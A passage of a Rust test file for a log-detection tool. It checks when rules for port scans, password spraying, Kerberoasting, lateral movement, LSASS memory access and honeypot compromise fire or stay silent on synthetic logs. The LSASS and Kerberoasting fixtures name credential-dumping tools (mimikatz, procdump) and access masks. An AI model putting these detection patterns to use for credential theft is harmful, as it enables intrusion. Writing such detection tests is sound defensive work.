    let scan = |count| inc(VERTICAL_SCAN, json!({"source.ip": EXTERNAL_SCANNER, "destination.ip": "10.0.0.9"}), count);
    c.fires("25 ports in 24 s", conn_log(port_probes("10.0.0.9", 25, SEC, "tcp", None)), [scan(25)]);
    let with_last_at = |at: i64| {
        let mut rows = port_probes("10.0.0.9", 24, SEC, "tcp", None);
        rows.push(conn(T + at, EXTERNAL_SCANNER, "10.0.0.9", 2000, "tcp", "S0"));
        conn_log(rows)
    };
    c.fires("25th port exactly 5 min after the first", with_last_at(5 * MIN), [scan(25)]);
    c.silent("25th port 5 min 1 ms after the first", with_last_at(5 * MIN + MS), []);
    c.silent("24 ports", conn_log(port_probes("10.0.0.9", 24, SEC, "tcp", None)), []);
    c.silent("25 ports answered (SF)", conn_log(port_probes("10.0.0.9", 25, SEC, "tcp", Some("SF"))), []);
    c.silent("25 UDP ports", conn_log(port_probes("10.0.0.9", 25, SEC, "udp", Some("S0"))), []);
    let two_hosts =
        (0..25u16).map(|i| conn(T + i64::from(i) * SEC, EXTERNAL_SCANNER, if i % 2 == 0 { "10.0.0.9" } else { "10.0.0.10" }, 1000 + i, "tcp", "S0"));
    c.silent("25 ports over two hosts", conn_log(two_hosts), []);
    c.fires("50 ports (second window merged)", conn_log(port_probes("10.0.0.9", 50, SEC, "tcp", None)), [scan(50).merged(1)]);
    c.finish();
}

const INTERNAL_SCANNER: &str = "10.0.0.66";

/// Probes of port `port(i)` on `hosts` hosts `<prefix>.1`, `<prefix>.2`, ..., one per `step`.
fn host_probes(prefix: &str, hosts: i64, step: i64, state: &str, port: impl Fn(i64) -> u16) -> Vec<String> {
    (0..hosts).map(|i| conn(T + i * step, INTERNAL_SCANNER, &format!("{prefix}.{}", i + 1), port(i), "tcp", state)).collect()
}

#[test]
fn horizontal_port_scan() {
    let mut c = Cases::new(HORIZONTAL_SCAN);
    let scan = |count| inc(HORIZONTAL_SCAN, json!({"source.ip": INTERNAL_SCANNER, "destination.port": 445}), count);
    let smb = |_| 445;
    c.fires("50 hosts in 49 s", conn_log(host_probes("10.0.1", 50, SEC, "S0", smb)), [scan(50)]);
    c.fires("50 hosts in 192.168/16, rejected", conn_log(host_probes("192.168.7", 50, SEC, "REJ", smb)), [scan(50)]);
    let with_last_at = |at: i64| {
        let mut rows = host_probes("10.0.1", 49, SEC, "S0", smb);
        rows.push(conn(T + at, INTERNAL_SCANNER, "10.0.2.1", 445, "tcp", "S0"));
        conn_log(rows)
    };
    c.fires("50th host exactly 1 min after the first", with_last_at(MIN), [scan(50)]);
    c.silent("50th host 1 min 1 ms after the first", with_last_at(MIN + MS), []);
    c.silent("49 hosts", conn_log(host_probes("10.0.1", 49, SEC, "S0", smb)), []);
    // 172.32.0.0/16 is just past 172.16.0.0/12: not private.
    c.silent("50 hosts outside RFC 1918", conn_log(host_probes("172.32.0", 50, SEC, "S0", smb)), []);
    c.silent("50 hosts, two ports", conn_log(host_probes("10.0.1", 50, SEC, "S0", |i| if i % 2 == 0 { 445 } else { 22 })), []);
    c.silent("50 hosts answered (SF)", conn_log(host_probes("10.0.1", 50, SEC, "SF", smb)), []);
    c.fires("100 hosts (second window merged)", conn_log(host_probes("10.0.1", 100, 500 * MS, "S0", smb)), [scan(100).merged(1)]);
    c.finish();
}

// ---------------------------------------------------------------------------------------------
// Windows Security and Sysmon.

const SPRAYER: &str = "203.0.113.50";

/// Failed logons for `accounts` distinct accounts on `host`, `step` apart, from `ip(i)`.
fn logon_failures(host: &str, accounts: i64, step: i64, ip: impl Fn(i64) -> Option<&'static str>) -> Vec<String> {
    (0..accounts).map(|i| logon_failure(T + i * step, host, &format!("user{i:02}"), ip(i))).collect()
}

fn local_spraying(host: &str, count: u64) -> Inc {
    inc(WINDOWS_LOCAL_SPRAYING, json!({"Hostname": host}), count)
}

#[test]
fn windows_logon_failures_for_many_accounts() {
    let mut c = Cases::new(WINDOWS_MANY_ACCOUNTS);
    let spraying = |count| inc(WINDOWS_MANY_ACCOUNTS, json!({"IpAddress": SPRAYER}), count);
    c.fires("10 accounts in 9 s", windows(logon_failures("DC01.corp.local", 10, SEC, |_| Some(SPRAYER))), [spraying(10)]);
    let with_last_at = |at: i64| {
        let mut events = logon_failures("DC01.corp.local", 9, SEC, |_| Some(SPRAYER));
        events.push(logon_failure(T + at, "DC01.corp.local", "user99", Some(SPRAYER)));
        windows(events)
    };
    c.fires("10th account exactly 10 min after the first", with_last_at(10 * MIN), [spraying(10)]);
    c.silent("10th account 10 min 1 ms after the first", with_last_at(10 * MIN + MS), []);
    c.silent("9 accounts", windows(logon_failures("DC01.corp.local", 9, SEC, |_| Some(SPRAYER))), []);
    let retries = (0..10).map(|i| logon_failure(T + i * SEC, "DC01.corp.local", &format!("user{:02}", i % 9), Some(SPRAYER)));
    c.silent("10 failures for 9 accounts", windows(retries), []);
    // Failures without a remote address are the local rule's: ten accounts on one host are local
    // spraying (its 5-account windows fire twice and merge).
    for local in ["-", "127.0.0.1", "::1"] {
        let events = logon_failures("WS05.corp.local", 10, SEC, |_| Some(local));
        c.silent(&format!("10 accounts from {local}"), windows(events), [local_spraying("WS05.corp.local", 10).merged(1)]);
    }
    // Without IpAddress an event has no group: it counts for neither rule.
    c.silent("10 accounts, no IpAddress field", windows(logon_failures("DC01.corp.local", 10, SEC, |_| None)), []);
    const SOURCES: [&str; 10] = [
        "203.0.113.60",
        "203.0.113.61",
        "203.0.113.62",
        "203.0.113.63",
        "203.0.113.64",
        "203.0.113.65",
        "203.0.113.66",
        "203.0.113.67",
        "203.0.113.68",
        "203.0.113.69",
    ];
    c.silent("10 accounts from 10 sources", windows(logon_failures("DC01.corp.local", 10, SEC, |i| Some(SOURCES[i as usize]))), []);
    c.fires("20 accounts (second window merged)", windows(logon_failures("DC01.corp.local", 20, SEC, |_| Some(SPRAYER))), [spraying(20).merged(1)]);
    c.finish();
}

#[test]
fn windows_local_password_spraying() {
    let mut c = Cases::new(WINDOWS_LOCAL_SPRAYING);
    const HOST: &str = "WS05.corp.local";
    // Every form of "no remote address" Windows writes.
    let local = |i: i64| Some(["-", "127.0.0.1", "::1"][i as usize % 3]);
    c.fires("5 accounts in 4 s", windows(logon_failures(HOST, 5, SEC, local)), [local_spraying(HOST, 5)]);
    let with_last_at = |at: i64| {
        let mut events = logon_failures(HOST, 4, SEC, local);
        events.push(logon_failure(T + at, HOST, "user99", Some("-")));
        windows(events)
    };
    c.fires("5th account exactly 10 min after the first", with_last_at(10 * MIN), [local_spraying(HOST, 5)]);
    c.silent("5th account 10 min 1 ms after the first", with_last_at(10 * MIN + MS), []);
    c.silent("4 accounts", windows(logon_failures(HOST, 4, SEC, local)), []);
    let two_hosts = (0..5).map(|i| logon_failure(T + i * SEC, if i % 2 == 0 { HOST } else { "WS06.corp.local" }, &format!("user{i:02}"), Some("-")));
    c.silent("5 accounts over two hosts", windows(two_hosts), []);
    // A remote source address is the network rule's (which needs 10 accounts).
    c.silent("5 accounts from a network address", windows(logon_failures(HOST, 5, SEC, |_| Some(SPRAYER))), []);
    let no_host = (0..5).map(|i| security(T + i * SEC, 4625, json!({"TargetUserName": format!("user{i:02}"), "IpAddress": "-", "Status": "0xc000006d"})));
    c.silent("5 accounts, no Hostname field", windows(no_host), []);
    c.fires("10 accounts (second window merged)", windows(logon_failures(HOST, 10, SEC, local)), [local_spraying(HOST, 10).merged(1)]);
    c.finish();
}

const ROASTER: &str = "alice@CORP.LOCAL";

/// RC4 tickets for `services` issued to `requester`, a second apart.
fn roast(requester: &str, services: &[&str], encryption: &str, status: &str) -> Vec<String> {
    services.iter().enumerate().map(|(i, s)| service_ticket(T + i as i64 * SEC, requester, s, encryption, status)).collect()
}

#[test]
fn kerberoasting() {
    let mut c = Cases::new(KERBEROASTING);
    let roasting = |count| inc(KERBEROASTING, json!({"TargetUserName": ROASTER}), count);
    let four = ["svc_sql", "svc_web", "svc_backup", "svc_sccm"];
    c.fires("4 service accounts in 3 s", windows(roast(ROASTER, &four, "0x17", "0x0")), [roasting(4)]);
    let with_last_at = |at: i64| {
        let mut events = roast(ROASTER, &four[..3], "0x17", "0x0");
        events.push(service_ticket(T + at, ROASTER, "svc_sccm", "0x17", "0x0"));
        windows(events)
    };
    c.fires("4th service exactly 10 min after the first", with_last_at(10 * MIN), [roasting(4)]);
    c.silent("4th service 10 min 1 ms after the first", with_last_at(10 * MIN + MS), []);
    c.silent("3 service accounts", windows(roast(ROASTER, &four[..3], "0x17", "0x0")), []);
    c.silent("4th is a computer account", windows(roast(ROASTER, &["svc_sql", "svc_web", "svc_backup", "WS01$"], "0x17", "0x0")), []);
    c.silent("4th is krbtgt", windows(roast(ROASTER, &["svc_sql", "svc_web", "svc_backup", "krbtgt"], "0x17", "0x0")), []);
    c.silent("AES tickets (0x12)", windows(roast(ROASTER, &four, "0x12", "0x0")), []);
    // 0x1B (KDC_ERR_MUST_USE_USER2USER): no ticket was issued.
    c.silent("refused requests", windows(roast(ROASTER, &four, "0x17", "0x1b")), []);
    let requesters = four.iter().enumerate().map(|(i, s)| service_ticket(T + i as i64 * SEC, &format!("user{i}@CORP.LOCAL"), s, "0x17", "0x0"));
    c.silent("4 services, 4 requesters", windows(requesters), []);
    let anonymous = four.iter().enumerate().map(|(i, s)| {
        security(T + i as i64 * SEC, 4769, json!({"Hostname": "DC01.corp.local", "ServiceName": s, "TicketEncryptionType": "0x17", "Status": "0x0"}))
    });
    c.silent("4 services, no TargetUserName field", windows(anonymous), []);
    let eight = ["svc_sql", "svc_web", "svc_backup", "svc_sccm", "svc_exch", "svc_crm", "svc_erp", "svc_ftp"];
    c.fires("8 service accounts (second window merged)", windows(roast(ROASTER, &eight, "0x17", "0x0")), [roasting(8).merged(1)]);
    c.finish();
}

/// Network logons of `user` to `hosts` hosts (`SRV01`, ...), `step` apart.
fn fan_out(user: &str, hosts: i64, step: i64, logon_type: &str) -> Vec<String> {
    (0..hosts).map(|i| logon(T + i * step, &format!("SRV{:02}.corp.local", i + 1), user, logon_type)).collect()
}

#[test]
fn lateral_movement_via_network_logons() {
    let mut c = Cases::new(LATERAL_NETWORK_LOGONS);
    let lateral = |count| inc(LATERAL_NETWORK_LOGONS, json!({"TargetUserName": "alice"}), count);
    c.fires("5 hosts in 4 min", windows(fan_out("alice", 5, MIN, "3")), [lateral(5)]);
    let with_last_at = |at: i64| {
        let mut events = fan_out("alice", 4, MIN, "3");
        events.push(logon(T + at, "SRV99.corp.local", "alice", "3"));
        windows(events)
    };
    c.fires("5th host exactly 30 min after the first", with_last_at(30 * MIN), [lateral(5)]);
    c.silent("5th host 30 min 1 ms after the first", with_last_at(30 * MIN + MS), []);
    c.silent("4 hosts", windows(fan_out("alice", 4, MIN, "3")), []);
    c.silent("a computer account", windows(fan_out("WS05$", 5, MIN, "3")), []);
    c.silent("anonymous logons", windows(fan_out("ANONYMOUS LOGON", 5, MIN, "3")), []);
    c.silent("remote interactive logons (type 10)", windows(fan_out("alice", 5, MIN, "10")), []);
    let repeat = (0..5).map(|i| logon(T + i * MIN, &format!("SRV{:02}.corp.local", i % 4 + 1), "alice", "3"));
    c.silent("5 logons to 4 hosts", windows(repeat), []);
    c.fires("10 hosts (second window merged)", windows(fan_out("alice", 10, MIN, "3")), [lateral(10).merged(1)]);
    c.finish();
}

const WSMPROVHOST: &str = "C:\\Windows\\System32\\wsmprovhost.exe";
const SVCHOST: &str = "C:\\Windows\\System32\\svchost.exe";

/// WinRM sessions of `user` on `hosts` hosts (`SRV01`, ...), `step` apart: Sysmon `event_id` of
/// `image` started by `parent`.
fn winrm(user: &str, hosts: i64, step: i64, event_id: u32, image: &str, parent: &str) -> Vec<String> {
    (0..hosts).map(|i| process(T + i * step, event_id, &format!("SRV{:02}.corp.local", i + 1), user, image, parent)).collect()
}

#[test]
fn lateral_movement_via_winrm() {
    let mut c = Cases::new(LATERAL_WINRM);
    let lateral = |count| inc(LATERAL_WINRM, json!({"User": "CORP\\alice"}), count);
    c.fires("sessions on 3 hosts in 2 min", windows(winrm("CORP\\alice", 3, MIN, 1, WSMPROVHOST, SVCHOST)), [lateral(3)]);
    let with_last_at = |at: i64| {
        let mut events = winrm("CORP\\alice", 2, MIN, 1, WSMPROVHOST, SVCHOST);
        events.push(process(T + at, 1, "SRV99.corp.local", "CORP\\alice", WSMPROVHOST, SVCHOST));
        windows(events)
    };
    c.fires("3rd host exactly 30 min after the first", with_last_at(30 * MIN), [lateral(3)]);
    c.silent("3rd host 30 min 1 ms after the first", with_last_at(30 * MIN + MS), []);
    c.silent("sessions on 2 hosts", windows(winrm("CORP\\alice", 2, MIN, 1, WSMPROVHOST, SVCHOST)), []);
    let users = (0..3).map(|i| process(T + i * MIN, 1, &format!("SRV{:02}.corp.local", i + 1), &format!("CORP\\user{i}"), WSMPROVHOST, SVCHOST));
    c.silent("3 hosts, 3 accounts", windows(users), []);
    // What runs inside the session is the plugin host's child, not a new session.
    let children = winrm("CORP\\alice", 3, MIN, 1, "C:\\Windows\\System32\\whoami.exe", WSMPROVHOST);
    c.silent("children of wsmprovhost on 3 hosts", windows(children), []);
    // Sysmon 5 (process terminated) is not process_creation: the logsource leaves it out.
    c.silent("wsmprovhost terminating on 3 hosts", windows(winrm("CORP\\alice", 3, MIN, 5, WSMPROVHOST, SVCHOST)), []);
    c.fires("sessions on 6 hosts (second window merged)", windows(winrm("CORP\\alice", 6, MIN, 1, WSMPROVHOST, SVCHOST)), [lateral(6).merged(1)]);
    c.finish();
}

const LSASS: &str = "C:\\Windows\\System32\\lsass.exe";

#[test]
fn lsass_memory_access() {
    let mut c = Cases::new(LSASS_ACCESS);
    // A detection rule: one incident per event, with an empty group.
    let dump = inc(LSASS_ACCESS, json!({}), 1);
    let one = |source: &str, target: &str, access: &str| windows([process_access(T, source, target, access)]);
    c.fires("mimikatz from Downloads, 0x1010", one("C:\\Users\\alice\\Downloads\\mimikatz.exe", LSASS, "0x1010"), [dump.clone()]);
    // Access masks compare case-insensitively, as Sigma strings do.
    c.fires("procdump from a user folder, 0x1FFFFF", one("C:\\Users\\Public\\procdump64.exe", LSASS, "0x1FFFFF"), [dump.clone()]);
    // Only System32 and SysWOW64 are trusted under C:\Windows, so a tool staged in
    // C:\Windows\Temp is caught (the description's "outside the Windows folder" is looser).
    c.fires("procdump from C:\\Windows\\Temp, 0x1410", one("C:\\Windows\\Temp\\procdump64.exe", LSASS, "0x1410"), [dump.clone()]);
    let events = [
        process_access(T, "C:\\Users\\alice\\Downloads\\mimikatz.exe", LSASS, "0x1010"),
        process_access(T + SEC, "C:\\Users\\alice\\Downloads\\mimikatz.exe", LSASS, "0x1438"),
    ];
    c.fires("two accesses, two incidents", windows(events), [dump.clone(), dump]);
    c.silent("query-information rights only (0x1000)", one("C:\\Users\\alice\\Downloads\\mimikatz.exe", LSASS, "0x1000"), []);
    // Paths compare case-insensitively too: Sysmon writes `system32` in lower case.
    c.silent("svchost in system32", one("C:\\Windows\\system32\\svchost.exe", LSASS, "0x1410"), []);
    c.silent("an agent under Program Files", one("C:\\Program Files\\Vendor\\agent.exe", LSASS, "0x1fffff"), []);
    c.silent("Defender", one("C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.2304.8-0\\MsMpEng.exe", LSASS, "0x1fffff"), []);
    c.silent("another process than lsass", one("C:\\Users\\alice\\Downloads\\mimikatz.exe", "C:\\Windows\\System32\\notlsass.exe", "0x1fffff"), []);
    c.finish();
}

// ---------------------------------------------------------------------------------------------
// Cowrie honeypot JSON.

const HONEYPOT_ATTACKER: &str = "192.0.2.44";

/// Events of one attacker at the given offsets, each `(offset, eventid, session)`.
fn honeypot_events(events: &[(i64, &str, &str)]) -> File {
    cowrie(events.iter().map(|&(at, id, session)| honeypot(T + at, id, HONEYPOT_ATTACKER, session)).collect::<Vec<_>>())
}

#[test]
fn honeypot_compromise_chain() {
    let mut c = Cases::new(HONEYPOT_CHAIN);
    let chain = inc(HONEYPOT_CHAIN, json!({"session": "c0ffee01"}), 3);
    let (login, command, download) = ("cowrie.login.success", "cowrie.command.input", "cowrie.session.file_download");
    let s = "c0ffee01";
    c.fires("login, command, download", honeypot_events(&[(0, login, s), (10 * SEC, command, s), (20 * SEC, download, s)]), [chain.clone()]);
    let variants = [(0, login, s), (10 * SEC, "cowrie.command.failed", s), (20 * SEC, "cowrie.session.file_upload", s)];
    c.fires("login, failed command, upload", honeypot_events(&variants), [chain.clone()]);
    c.fires("download exactly 1 h after the login", honeypot_events(&[(0, login, s), (10 * SEC, command, s), (HOUR, download, s)]), [chain]);
    c.silent("download 1 h 1 ms after the login", honeypot_events(&[(0, login, s), (10 * SEC, command, s), (HOUR + MS, download, s)]), []);
    c.silent("download before the command", honeypot_events(&[(0, login, s), (10 * SEC, download, s), (20 * SEC, command, s)]), []);
    c.silent("no login", honeypot_events(&[(10 * SEC, command, s), (20 * SEC, download, s)]), []);
    let two = [(0, login, s), (10 * SEC, command, "c0ffee02"), (20 * SEC, download, "c0ffee02")];
    c.silent("login in one session, the rest in another", honeypot_events(&two), []);
    c.finish();
}

/// `n` failed honeypot logins, `step` apart, each in its own session as Cowrie logs them.
fn honeypot_failures(n: i64, step: i64) -> Vec<(i64, &'static str, String)> {
    (0..n).map(|i| (i * step, "cowrie.login.failed", format!("f{i:03}"))).collect()
}

fn honeypot_file(events: &[(i64, &str, String)]) -> File {
    cowrie(events.iter().map(|(at, id, session)| honeypot(T + at, id, HONEYPOT_ATTACKER, session)).collect::<Vec<_>>())
}

#[test]
fn honeypot_password_guessing() {
    let mut c = Cases::new(HONEYPOT_GUESSING);
    let guessing = |count| inc(HONEYPOT_GUESSING, json!({"src_ip": HONEYPOT_ATTACKER}), count);
    c.fires("10 failed logins in 9 s", honeypot_file(&honeypot_failures(10, SEC)), [guessing(10)]);
    let with_last_at = |at: i64| {
        let mut events = honeypot_failures(9, SEC);
        events.push((at, "cowrie.login.failed", "f999".into()));
        honeypot_file(&events)
    };
    c.fires("10th failure exactly 10 min after the first", with_last_at(10 * MIN), [guessing(10)]);
    c.silent("10th failure 10 min 1 ms after the first", with_last_at(10 * MIN + MS), []);
    c.silent("9 failed logins", honeypot_file(&honeypot_failures(9, SEC)), []);
    let successes: Vec<_> = (0..10).map(|i| (i * SEC, "cowrie.login.success", format!("s{i:03}"))).collect();
    c.silent("10 successful logins", honeypot_file(&successes), []);
    let sources = (0..10).map(|i| honeypot(T + i * SEC, "cowrie.login.failed", &format!("192.0.2.{}", 100 + i), &format!("f{i:03}")));
    c.silent("10 failures from 10 sources", cowrie(sources.collect::<Vec<_>>()), []);
    c.fires("20 failed logins (second window merged)", honeypot_file(&honeypot_failures(20, SEC)), [guessing(20).merged(1)]);
    c.finish();
}

// ---------------------------------------------------------------------------------------------
// Rule problems: the correct behaviour, ignored until the rules are fixed.

/// OpenSSH 9.8 moved the per-connection messages (`Failed password`, `Accepted ...`) to a
/// process named `sshd-session` (release notes; fail2ban adjusted its filter in
/// fail2ban/fail2ban#3782). vigil's parser and logsource already treat `sshd-session` as sshd,
/// but `ssh_failed_password` and `ssh_successful_login` require `process.name: sshd` exactly,
/// so on current OpenSSH no SSH rule fires (the lines parse: nothing is dead-lettered).
#[test]
fn ssh_rules_see_openssh_9_8_sshd_session_lines() {
    let mut lines = ssh_failures(SSH_ATTACKER, T, 20, SEC);
    lines.push(ssh_accepted(T + 20 * SEC, "srv1", "admin", SSH_ATTACKER));
    let lines = lines.into_iter().map(|l| l.replacen(" sshd[", " sshd-session[", 1));
    let chain = inc(SSH_BRUTE_FORCE_LOGIN, json!({"source.ip": SSH_ATTACKER}), 2);
    assert_eq!(replay(&auth(lines)), [brute_force(20), chain]);
}

/// pam_unix writes `rhost` as sshd resolved it: a host name when sshd's `UseDNS` is on (the
/// loghub Linux log has 23 failures in 30 s from `rhost=n219076184117.netvigator.com`). The
/// building block drops events without `source.ip` (meant for local failures, whose rhost is
/// empty) and groups by `source.ip`, so a remote host named by DNS is never counted, although the
/// correlation is about "one remote host".
#[test]
fn pam_brute_force_counts_remote_hosts_named_by_dns() {
    let got = replay(&auth(pam_failures("dsl-42.example.org", 10)));
    assert!(got.len() == 1 && got[0].rule == PAM_BRUTE_FORCE && got[0].group.contains("dsl-42.example.org"), "{got:?}");
}

// ---------------------------------------------------------------------------------------------
// Coverage.

/// Fails when a default rule that raises incidents has no test above (or a tested title no
/// longer raises any), so a new rule cannot ship untested.
#[test]
fn every_incident_rule_is_tested() {
    let set = RuleSet::load(&[rules_dir()], &CompileOptions::default())
        .unwrap_or_else(|e| panic!("default rules do not load: {:#?}", e.iter().map(ToString::to_string).collect::<Vec<_>>()));
    let res = &set.resolution;
    let detections = set.rules.iter().zip(&res.detection_emits).filter(|(_, emits)| **emits).map(|(r, _)| r.title.clone());
    let correlations = set
        .correlation_specs
        .iter()
        .zip(&res.correlation_emits)
        .filter(|(_, emits)| **emits)
        .map(|(c, _)| c.title.clone().unwrap_or_else(|| panic!("correlation at {}:{} has no title", c.file.display(), c.line)));
    let emitting: BTreeSet<String> = detections.chain(correlations).collect();
    let tested: BTreeSet<String> = TESTED.iter().map(|t| t.to_string()).collect();
    assert_eq!(tested.len(), TESTED.len(), "a title is listed twice in TESTED");
    let untested: Vec<&String> = emitting.difference(&tested).collect();
    let stale: Vec<&String> = tested.difference(&emitting).collect();
    assert!(untested.is_empty(), "default rules raising incidents without cases in tests/default_rules.rs: {untested:?}");
    assert!(stale.is_empty(), "tested titles that no default rule raising incidents has: {stale:?}");
}
